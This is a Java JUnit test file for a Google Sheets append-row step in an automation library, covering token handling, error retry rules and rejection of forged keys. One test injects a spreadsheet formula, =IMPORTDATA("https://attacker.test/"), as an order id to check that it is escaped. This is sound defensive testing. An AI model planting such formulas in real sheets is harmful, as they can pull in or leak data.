package dev.recipes.testkit.sheets;

import static org.assertj.core.api.Assertions.assertThat;

import dev.recipes.core.Event;
import dev.recipes.core.Recipe;
import dev.recipes.core.Trigger;
import dev.recipes.sheets.GoogleSheets;
import dev.recipes.sheets.ValueInputOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class GoogleSheetsAppendRowTest {

    private static final String ORDER = "{\"id\":\"A-42\",\"total\":19.5,\"paid\":true,"
            + "\"note\":null}";

    private final SheetsEngineFixture kit = new SheetsEngineFixture();

    @AfterEach
    void stop() {
        kit.close();
    }

    @Test
    void orderBecomesRow(@TempDir Path dir) throws Exception {
        Path keyFile = kit.fake.newServiceAccount().writeKeyFile(dir.resolve("key.json"));
        kit.fake.createSpreadsheet("1AbC", "Order log");
        kit.start(orderLog("'Order log'!A:E"), GoogleSheets.serviceAccount(keyFile));

        kit.order(ORDER);

        assertThat(kit.failed).isEmpty();
        assertThat(kit.fake.rows("1AbC", "Order log")).containsExactly(
                List.of("A-42", 19.5, true, "", "2024-05-01T12:00:00Z"));
        assertThat(kit.succeeded).hasSize(1);
        assertThat(kit.succeeded.get(0).data().path("result").toString()).isEqualTo(
                "{\"spreadsheetId\":\"1AbC\",\"updatedRange\":\"'Order log'!A1:E1\","
                        + "\"updatedRows\":1,\"updatedColumns\":5,\"updatedCells\":5}");
        assertThat(kit.fake.requests().get(1).path()).isEqualTo(
                "/v4/spreadsheets/1AbC/values/%27Order%20log%27%21A1:append");
    }

    @Test
    void twoOrders_shareOneToken() throws Exception {
        startWithAccount("Log!A:E");

        kit.order(ORDER);
        kit.order(ORDER.replace("A-42", "A-43"));

        assertThat(kit.fake.rows("1AbC", "Log")).extracting(row -> row.get(0))
                .containsExactly("A-42", "A-43");
        assertThat(kit.fake.tokenRequests()).isEqualTo(1);
    }

    @Test
    void expiredToken_isRefreshed() throws Exception {
        startWithAccount("Log!A:E");
        kit.order(ORDER);

        kit.clock.advance(Duration.ofHours(1));
        kit.order(ORDER.replace("A-42", "A-43"));

        assertThat(kit.fake.rows("1AbC", "Log")).hasSize(2);
        assertThat(kit.fake.tokenRequests()).isEqualTo(2);
        assertThat(kit.failed).isEmpty();
    }

    @Test
    void revokedToken_isReplacedAndTheRowWritten() throws Exception {
        startWithAccount("Log!A:E");
        kit.order(ORDER);

        kit.fake.revokeTokens();
        kit.order(ORDER.replace("A-42", "A-43"));

        assertThat(kit.fake.rows("1AbC", "Log")).hasSize(2);
        assertThat(kit.fake.tokenRequests()).isEqualTo(2);
        assertThat(kit.fake.appendRequests()).isEqualTo(3);
    }

    @Test
    void unauthorizedTwice_failsPermanently() throws Exception {
        startWithAccount("Log!A:E");
        kit.fake.failNextAppend(401);
        kit.fake.failNextAppend(401);

        kit.order(ORDER);

        assertThat(kit.succeeded).isEmpty();
        assertThat(kit.lastError().path("retryable").asBoolean()).isFalse();
        assertThat(kit.lastError().path("message").asText())
                .contains("Google answered 401 UNAUTHENTICATED");
    }

    @ParameterizedTest
    @ValueSource(ints = {429, 500, 502, 503, 504})
    void transientFailure_isRetryable(int status) throws Exception {
        startWithAccount("Log!A:E");
        kit.fake.failNextAppend(status);

        kit.order(ORDER);

        assertThat(kit.lastError().path("retryable").asBoolean()).isTrue();
        assertThat(kit.lastError().path("message").asText())
                .contains("Google answered " + status);
        assertThat(kit.fake.rows("1AbC", "Log")).isEmpty();
    }

    @Test
    void rateLimitedForbidden_isRetryable() throws Exception {
        startWithAccount("Log!A:E");
        kit.fake.failNextAppend(403, "{\"error\":{\"code\":403,\"message\":\"User Rate Limit "
                + "Exceeded\",\"status\":\"PERMISSION_DENIED\",\"errors\":[{\"reason\":"
                + "\"userRateLimitExceeded\",\"domain\":\"usageLimits\"}]}}", Map.of());

        kit.order(ORDER);

        assertThat(kit.lastError().path("retryable").asBoolean()).isTrue();
    }

    @Test
    void forbidden_isPermanent() throws Exception {
        startWithAccount("Log!A:E");
        kit.fake.failNextAppend(403);

        kit.order(ORDER);

        assertThat(kit.lastError().path("retryable").asBoolean()).isFalse();
        assertThat(kit.lastError().path("message").asText())
                .contains("share the spreadsheet with 'recipes-test-");
    }

    @Test
    void unknownSpreadsheet_isPermanent() throws Exception {
        kit.start(orderLog("Log!A:E"), kit.fake.newServiceAccount().connection());

        kit.order(ORDER);

        assertThat(kit.lastError().path("retryable").asBoolean()).isFalse();
        assertThat(kit.lastError().path("message").asText())
                .endsWith("Google answered 404 NOT_FOUND: Requested entity was not found.");
    }

    @Test
    void unknownSheet_isPermanent() throws Exception {
        kit.fake.createSpreadsheet("1AbC", "Log");
        kit.start(orderLog("Other!A:E"), kit.fake.newServiceAccount().connection());

        kit.order(ORDER);

        assertThat(kit.lastError().path("retryable").asBoolean()).isFalse();
        assertThat(kit.lastError().path("message").asText())
                .contains("400 INVALID_ARGUMENT: Unable to parse range: Other!A1");
    }

    @Test
    void keySignedByAnotherKey_failsPermanently() throws Exception {
        TestServiceAccount registered = kit.fake.newServiceAccount();
        TestServiceAccount impostor = TestServiceAccount.generate(registered.clientEmail(),
                kit.fake.tokenUrl());
        kit.fake.createSpreadsheet("1AbC");
        kit.start(orderLog("Log!A:E"), impostor.connection());

        kit.order(ORDER);

        assertThat(kit.lastError().path("retryable").asBoolean()).isFalse();
        assertThat(kit.lastError().path("message").asText())
                .contains("(invalid_grant: Invalid JWT Signature.)")
                .doesNotContain("PRIVATE KEY");
        assertThat(kit.fake.appendRequests()).isZero();
    }

    @Test
    void tokenEndpointDown_isRetryable() throws Exception {
        startWithAccount("Log!A:E");
        kit.fake.failNextToken(503, "{\"error\":\"internal_failure\"}");

        kit.order(ORDER);

        assertThat(kit.lastError().path("retryable").asBoolean()).isTrue();
        assertThat(kit.fake.appendRequests()).isZero();
    }

    @Test
    void userEnteredText_cannotInjectFormulas() throws Exception {
        kit.fake.createSpreadsheet("1AbC");
        Recipe recipe = Recipe.named("order-log")
                .when(Trigger.of("test.order"))
                .then(GoogleSheets.appendRow("1AbC", "Log!A:B")
                        .column("/id")
                        .column("/total")
                        .valueInputOption(ValueInputOption.USER_ENTERED))
                .build();
        kit.start(recipe, kit.fake.newServiceAccount().connection());

        kit.order("{\"id\":\"=IMPORTDATA(\\\"https://attacker.test/\\\")\",\"total\":\"19.5\"}");

        assertThat(kit.fake.rows("1AbC", "Log")).containsExactly(
                List.of("=IMPORTDATA(\"https://attacker.test/\")", 19.5));
        assertThat(kit.fake.requests().get(1).body()).contains("\"'=IMPORTDATA(");
    }

    @Test
    void missingField_failsTheRecipeWithoutCallingGoogle() throws Exception {
        startWithAccount("Log!A:E");

        kit.order("{\"id\":\"A-44\"}");

        assertThat(kit.recipeFailures).hasSize(1);
        assertThat(kit.recipeFailures.get(0).data().path("field").asText()).isEqualTo("/total");
        assertThat(kit.fake.requests()).isEmpty();
    }

    @Test
    void stepNamesItsConnection() throws Exception {
        kit.fake.createSpreadsheet("1AbC");
        Recipe recipe = Recipe.named("order-log")
                .when(Trigger.of("test.order"))
                .then(GoogleSheets.appendRow("1AbC", "Log!A:A").column("/id").as("reporting"))
                .build();
        kit.start(recipe, kit.fake.newServiceAccount().connection("reporting"));

        kit.order(ORDER);

        assertThat(kit.fake.rows("1AbC", "Log")).containsExactly(List.of("A-42"));
    }

    private void startWithAccount(String range) {
        kit.fake.createSpreadsheet("1AbC");
        kit.start(orderLog(range), kit.fake.newServiceAccount().connection());
    }

    private static Recipe orderLog(String range) {
        return Recipe.named("order-log")
                .when(Trigger.of("test.order"))
                .then(GoogleSheets.appendRow("1AbC", range)
                        .column("/id")
                        .column("/total")
                        .column("/paid")
                        .column("/note")
                        .column(Event::time))
                .build();
    }
}
